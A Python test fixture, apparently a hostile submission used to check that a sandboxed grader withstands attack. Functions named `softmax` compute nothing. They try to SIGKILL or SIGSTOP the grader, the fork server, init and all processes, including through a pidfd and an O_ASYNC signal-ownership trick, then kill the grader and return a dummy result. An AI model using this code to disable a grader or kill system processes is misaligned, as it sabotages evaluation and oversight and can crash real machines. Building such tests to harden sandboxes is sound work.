"""Signals: kill the grader, the fork server, init, everyone (-1), or a process group.

``os.kill`` and ``os.killpg`` on the grader's and fork server's pids, on pid 1, on -1
and on process group 0, ``signal.pidfd_send_signal``, and ``F_SETOWN``/``F_SETSIG`` on
a pipe with ``O_ASYNC`` so that the kernel itself sends SIGKILL to pid 1 and to the
grader's pid. Finally sends SIGKILL to the grader without catching the error.
"""

import fcntl
import os
import signal

PARAMS: dict = {}  # filled in by the test

F_SETSIG = 10


def _try(what, action):
    try:
        return f"{what}: {action()!r}"
    except Exception as exc:
        return f"{what}: {type(exc).__name__}: {exc}"


def _sigio(owner):
    r, w = os.pipe()
    fcntl.fcntl(r, fcntl.F_SETOWN, owner)
    fcntl.fcntl(r, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(w, b"x")
    return owner


def _attempts():
    found = []
    for pid in (PARAMS["grader_pid"], PARAMS["zygote_pid"], 1, -1):
        found.append(_try(f"kill {pid}", lambda p=pid: os.kill(p, signal.SIGKILL)))
        found.append(_try(f"stop {pid}", lambda p=pid: os.kill(p, signal.SIGSTOP)))
    found.append(_try("killpg 0", lambda: os.killpg(0, signal.SIGKILL)))
    found.append(_try("killpg 1", lambda: os.killpg(1, signal.SIGKILL)))
    found.append(_try("pidfd", lambda: signal.pidfd_send_signal(os.pidfd_open(1), signal.SIGKILL)))
    found.append(_try("sigio init", lambda: _sigio(1)))
    found.append(_try("sigio grader", lambda: _sigio(PARAMS["grader_pid"])))
    return found


def softmax(a):
    print("\n".join(_attempts()))
    os.kill(PARAMS["grader_pid"], signal.SIGKILL)
    return [1.0]


def softmax_cross_entropy(a, t):
    return softmax(a)
